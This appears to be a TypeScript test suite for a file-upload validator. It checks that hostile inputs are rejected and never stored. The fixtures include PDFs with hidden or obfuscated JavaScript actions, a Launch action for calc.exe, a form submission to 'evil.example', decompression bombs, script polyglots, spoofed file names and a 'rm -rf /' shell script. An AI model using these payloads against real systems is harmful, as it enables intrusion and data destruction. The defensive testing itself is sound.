import { crc32 } from 'node:zlib';
import { ERRORS, FILE_LIMITS } from '@proverse/shared';
import { expect, test } from 'vitest';
import { contentOf, openDraft } from '../../contents/content.ts';
import { plainImage } from '../../pictures/image-fixtures.ts';
import { rejectionOf } from '../../testing/factories.ts';
import { inspectContent } from './inspect-content.ts';
import { inspectFile } from './inspect-file.ts';
import { bomb, objectStream, onePage, pdfOf } from './pdf-fixtures.ts';
import { testUploads } from './upload-fixtures.ts';
import { recording } from './voice-fixtures.ts';

const { ctx, upload, stored } = await testUploads();

const bytes = (text: string) => Buffer.from(text, 'latin1');
const png = await plainImage('png');
const jpeg = await plainImage('jpeg');
const webp = await plainImage('webp');
const gif = await plainImage('gif');
const pdf = pdfOf(onePage());
const webm = await recording('recordedWebm', { seconds: 2.3 });
const m4a = await recording('m4a', { seconds: 2.3 });

const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const HTML = '<!doctype html><script>alert(1)</script>';
const ZIP_END = `PK\x05\x06${'\0'.repeat(18)}`;

function withCatalog(catalog: string): Buffer {
  return pdfOf(onePage({ catalog }));
}

function action(entries: string): Buffer {
  return withCatalog(`/OpenAction<<${entries}>>`);
}

/** A PNG that says it has so many pixels, with data of `megabytes`. */
function hugePng(side: number, megabytes = 0): Buffer {
  const image = Buffer.from(png);
  image.writeUInt32BE(side, 16);
  image.writeUInt32BE(side, 20);
  image.writeUInt32BE(crc32(image.subarray(12, 29)), 29);
  if (megabytes === 0) return image;
  const chunk = Buffer.concat([bytes('IDAT'), bomb(megabytes)]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(chunk.length - 4, 0);
  ends.writeUInt32BE(crc32(chunk), 4);
  return Buffer.concat([image.subarray(0, 33), ends.subarray(0, 4), chunk, ends.subarray(4)]);
}

function heic(): Buffer {
  const box = bytes('\0\0\0\x18ftypheic\0\0\0\0mif1heic');
  return Buffer.concat([box, Buffer.alloc(400)]);
}

/** A PNG with deflated text that is much longer than the picture. */
function pngWithBomb(): Buffer {
  const chunk = Buffer.concat([bytes('iCCPicc\0\0'), bomb(64)]);
  const head = Buffer.alloc(4);
  head.writeUInt32BE(chunk.length - 4);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(chunk));
  return Buffer.concat([png.subarray(0, 33), head, chunk, checksum, png.subarray(33, 60)]);
}

type Case = readonly [what: string, content: Buffer, name: string, code: keyof typeof ERRORS];

const types: readonly Case[] = [
  ['an empty file', Buffer.alloc(0), 'a.jpg', 'FILE_DAMAGED'],
  ['text', bytes('hello'), 'a.pdf', 'FILE_UNSUPPORTED'],
  ['an SVG as PNG', bytes(SVG), 'a.png', 'FILE_UNSUPPORTED'],
  ['an SVG after an XML prolog', bytes(`<?xml version="1.0"?>${SVG}`), 'a.png', 'FILE_UNSUPPORTED'],
  ['HTML as PDF', bytes(HTML), 'a.pdf', 'FILE_UNSUPPORTED'],
  ['HTML as JPEG', bytes(HTML), 'a.jpg', 'FILE_UNSUPPORTED'],
  ['a GIF', gif, 'a.gif', 'FILE_UNSUPPORTED'],
  ['a GIF that is also a script', bytes('GIF89a/*\x01\x01*/=1;alert(1)'), 'a.gif', 'FILE_UNSUPPORTED'],
  ['a TIFF', await plainImage('tiff'), 'a.jpg', 'FILE_UNSUPPORTED'],
  ['a HEIC', heic(), 'a.heic', 'FILE_UNSUPPORTED'],
  ['a ZIP', bytes(`PK\x03\x04${ZIP_END}`), 'a.pdf', 'FILE_UNSUPPORTED'],
  ['a program for Windows', bytes('MZ\x90\0'), 'a.jpg', 'FILE_UNSUPPORTED'],
  ['a program for Linux', bytes('\x7fELF\x02\x01\x01'), 'a.webm', 'FILE_UNSUPPORTED'],
  ['a script', bytes('#!/bin/sh\nrm -rf /\n'), 'a.jpg', 'FILE_UNSUPPORTED'],
];

const pictures: readonly Case[] = [
  ['10,000 × 10,000 pixels', hugePng(10_000), 'a.png', 'PICTURE_TOO_LARGE'],
  ['60,000 × 60,000 pixels', hugePng(60_000), 'a.png', 'PICTURE_TOO_LARGE'],
  ['a PNG header before HTML', Buffer.concat([png.subarray(0, 8), bytes(HTML)]), 'a.png', 'FILE_DAMAGED'],
  ['a JPEG header before an SVG', Buffer.concat([jpeg.subarray(0, 3), bytes(SVG)]), 'a.jpg', 'FILE_DAMAGED'],
  ['a WebP header and nothing else', webp.subarray(0, 12), 'a.webp', 'FILE_DAMAGED'],
  ['a PNG that inflates to more than it has pixels', hugePng(100, 300), 'a.png', 'FILE_DAMAGED'],
  ['a PNG with a bomb as its profile', pngWithBomb(), 'a.png', 'FILE_DAMAGED'],
];

const documents: readonly Case[] = [
  ['a script when it opens', action('/S/JavaScript/JS(app.alert(1))'), 'a.pdf', 'PDF_UNSAFE'],
  [
    'a script in an object stream',
    pdfOf({ ...onePage({ catalog: '/OpenAction 9 0 R' }), 8: objectStream({ 9: SCRIPT }) }),
    'a.pdf',
    'PDF_UNSAFE',
  ],
  ['an attachment', withCatalog('/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 3 0 R>>>>]>>>>'), 'a.pdf', 'PDF_UNSAFE'],
  [
    'a password',
    pdfOf(
      { ...onePage(), 9: `<</Filter/Standard/V 1/R 2/O(${'a'.repeat(32)})/U(${'a'.repeat(32)})/P -44>>` },
      {
        trailer: '/Encrypt 9 0 R/ID[(a)(a)]',
      },
    ),
    'a.pdf',
    'PDF_LOCKED',
  ],
  ['101 pages', pdfOf(onePage({ pages: 101 })), 'a.pdf', 'PDF_TOO_LONG'],
  ['a ZIP at its end', Buffer.concat([pdf, bytes(ZIP_END)]), 'a.pdf', 'FILE_DAMAGED'],
  ['HTML before it', Buffer.concat([bytes(HTML), pdf]), 'a.pdf', 'FILE_UNSUPPORTED'],
  ['a PNG header before it', Buffer.concat([png.subarray(0, 8), pdf]), 'a.pdf', 'FILE_DAMAGED'],
  [
    'a bomb on its page',
    pdfOf({ ...onePage(), 3: { dict: '/Filter[/FlateDecode/FlateDecode]', stream: bomb(260, 2) } }),
    'a.pdf',
    'FILE_DAMAGED',
  ],
  [
    'a bomb as object stream',
    pdfOf({ ...onePage(), 8: { dict: '/Type/ObjStm/N 1/First 4/Filter/FlateDecode', stream: bomb(100) } }),
    'a.pdf',
    'FILE_DAMAGED',
  ],
  [
    'an index of a billion objects',
    pdfOf({ ...onePage(), 8: { dict: '/Type/XRef/W[0 0 0]/Size 1000000000', stream: '1' } }),
    'a.pdf',
    'FILE_DAMAGED',
  ],
  ['pages in a circle', pdfOf({ ...onePage(), 2: '<</Type/Pages/Count 1/Kids[2 0 R]>>' }), 'a.pdf', 'FILE_DAMAGED'],
  ['100,000 nested lists', pdfOf({ ...onePage(), 9: '['.repeat(100_000) }), 'a.pdf', 'FILE_DAMAGED'],
];

/** Rejected for the same reasons as `documents`, and read here without a process for each. */
const moreDocuments: readonly Case[] = [
  ['a script spelt with numbers', action('/S/J#61va#53cript/#4aS(app.alert(1))'), 'a.pdf', 'PDF_UNSAFE'],
  [
    'a script after other actions',
    action(`/S/URI/URI(a:b)/Next[<</S/Named/N/X/Next ${SCRIPT}>>]`),
    'a.pdf',
    'PDF_UNSAFE',
  ],
  ['a script of a page', pdfOf(onePage({ page: `/AA<</O ${SCRIPT}>>` })), 'a.pdf', 'PDF_UNSAFE'],
  ['a script of a form field', withCatalog(`/AcroForm<</Fields[<</AA<</K ${SCRIPT}>>>>]>>`), 'a.pdf', 'PDF_UNSAFE'],
  ['a script by its name', withCatalog('/Names<</JavaScript<</Names[(a)9 0 R]>>>>'), 'a.pdf', 'PDF_UNSAFE'],
  ['a script in a stream of a rendition', action('/S/Rendition/JS 9 0 R'), 'a.pdf', 'PDF_UNSAFE'],
  [
    'a script in an object stream without a type',
    pdfOf({ ...onePage({ catalog: '/OpenAction 9 0 R' }), 8: objectStream({ 9: SCRIPT }, '') }),
    'a.pdf',
    'PDF_UNSAFE',
  ],
  [
    'a script in an object that another replaces',
    pdfOf({ ...onePage({ catalog: '/OpenAction 9 0 R' }), 8: objectStream({ 9: SCRIPT }), 9: 'null' }),
    'a.pdf',
    'PDF_UNSAFE',
  ],
  ['a script in a comment', pdfOf(onePage(), { head: `% 9 0 obj ${SCRIPT} endobj\n` }), 'a.pdf', 'PDF_UNSAFE'],
  [
    'a script in the content of a stream',
    pdfOf({ ...onePage(), 9: { dict: '', stream: `9 0 obj ${SCRIPT} endobj` } }),
    'a.pdf',
    'PDF_UNSAFE',
  ],
  ['a script in the trailer', pdfOf(onePage(), { trailer: `/OpenAction ${SCRIPT}` }), 'a.pdf', 'PDF_UNSAFE'],
  ['a launch', action('/S/Launch/F(calc.exe)'), 'a.pdf', 'PDF_UNSAFE'],
  ['a form that is sent', action('/S/SubmitForm/F(https://evil.example)'), 'a.pdf', 'PDF_UNSAFE'],
  ['data that is imported', action('/S/ImportData/F(a.fdf)'), 'a.pdf', 'PDF_UNSAFE'],
  ['a jump into an attachment', action('/S/GoToE/T<</R/C>>'), 'a.pdf', 'PDF_UNSAFE'],
  ['an attachment of an annotation', pdfOf(onePage({ page: '/Annots[<</FS<</EF<<>>>>>>]' })), 'a.pdf', 'PDF_UNSAFE'],
  ['rich media', pdfOf(onePage({ page: '/Annots[<</Subtype/RichMedia>>]' })), 'a.pdf', 'PDF_UNSAFE'],
  ['an XFA form', withCatalog('/AcroForm<</XFA 3 0 R>>'), 'a.pdf', 'PDF_UNSAFE'],
  ['a ZIP within a comment', pdfOf(onePage(), { head: `%${ZIP_END}\n` }), 'a.pdf', 'FILE_DAMAGED'],
  ['HTML at its start', pdfOf(onePage(), { head: `%${HTML}\n` }), 'a.pdf', 'FILE_DAMAGED'],
  ['HTML at its end', pdfOf(onePage(), { foot: HTML }), 'a.pdf', 'FILE_DAMAGED'],
  ['a PNG at its end', Buffer.concat([pdf, png]), 'a.pdf', 'FILE_DAMAGED'],
];

const recordings: readonly Case[] = [
  ['a WebM with video', await recording('webm', { hasVideo: true }), 'a.webm', 'FILE_UNSUPPORTED'],
  ['an MP4 with two tracks', await recording('m4a', { audioTracks: 2 }), 'a.m4a', 'FILE_UNSUPPORTED'],
  ['another Matroska file', await recording('mkv'), 'a.webm', 'FILE_UNSUPPORTED'],
  ['200 s of audio', await recording('recordedWebm', { seconds: 200 }), 'a.webm', 'VOICE_TOO_LONG'],
  ['HTML after a WebM header', Buffer.concat([webm.subarray(0, 4), bytes(HTML)]), 'a.webm', 'FILE_DAMAGED'],
  ['an MP4 header and nothing else', bytes('\0\0\0\x18ftypisom\0\0\0\0isommp42'), 'a.m4a', 'FILE_UNSUPPORTED'],
];

const names: readonly Case[] = [
  ['a program after a document', jpeg, 'invoice.pdf.exe', 'FILE_NAME_UNSAFE'],
  ['a program before a picture', jpeg, 'photo.exe.jpg', 'FILE_NAME_UNSAFE'],
  ['a program in wide letters', jpeg, 'photo.ｅｘｅ', 'FILE_NAME_UNSAFE'],
  ['a program before spaces', jpeg, 'photo.scr . ', 'FILE_NAME_UNSAFE'],
  ['a page', jpeg, 'index.HTML', 'FILE_NAME_UNSAFE'],
  ['a control character', jpeg, 'a\u0007b.jpg', 'VALIDATION_FAILED'],
  ['text from right to left', jpeg, 'a\u202egpj.exe', 'VALIDATION_FAILED'],
  ['300 bytes', jpeg, `${'क'.repeat(100)}.jpg`, 'VALIDATION_FAILED'],
  ['121 characters', jpeg, `${'a'.repeat(117)}.jpg`, 'VALIDATION_FAILED'],
];

test('there are more than fifty', () => {
  expect([types, pictures, documents, moreDocuments, recordings, names].flat().length).toBeGreaterThan(60);
});

test.each([...types, ...pictures, ...documents, ...recordings, ...names])(
  '%s: nothing is stored',
  async (_what, content, name, code) => {
    const { status, body } = await upload(content, name);
    expect({ status, error: body['error'] }).toEqual({ status: ERRORS[code].status, error: code });
    expect(Object.keys(body['errors'] ?? {})).toEqual(code === 'VALIDATION_FAILED' ? ['file'] : []);
    expect(await stored()).toEqual({ rows: 0, objects: [] });
  },
);

test.each(moreDocuments)('%s is rejected', async (_what, content, _name, code) => {
  expect(await inspectContent('pdf', content, FILE_LIMITS)).toEqual({ rejected: code });
});

// Without a process for each of them.
test.each([
  ['image', png],
  ['image', jpeg],
  ['image', webp],
  ['image', await plainImage('avif')],
  ['pdf', pdf],
  ['voice', webm],
  ['voice', m4a],
  ['voice', await recording('recordedM4a', { seconds: 2.3 })],
] as const)('a truncated file is damaged at every tenth: %s %#', async (kind, file) => {
  for (let tenth = 1; tenth < 10; tenth += 1) {
    const part = file.subarray(0, Math.floor((file.length * tenth) / 10));
    expect([tenth, await inspectContent(kind, part, FILE_LIMITS)]).toEqual([tenth, { rejected: 'FILE_DAMAGED' }]);
  }
  expect(await inspectContent(kind, file, FILE_LIMITS)).toHaveProperty('facts.kind', kind);
});

test('a process that is killed, or writes too much, rejects its file', async () => {
  for (const [code, signal] of [
    [null, 'SIGKILL'],
    [134, null],
  ] as const) {
    const run = async () => ({ code, signal, output: Buffer.from('half an outp') });
    await using draft = await openDraft();
    expect(await rejectionOf(inspectFile(ctx, contentOf(jpeg), draft, run))).toMatchObject({ code: 'FILE_DAMAGED' });
  }
});
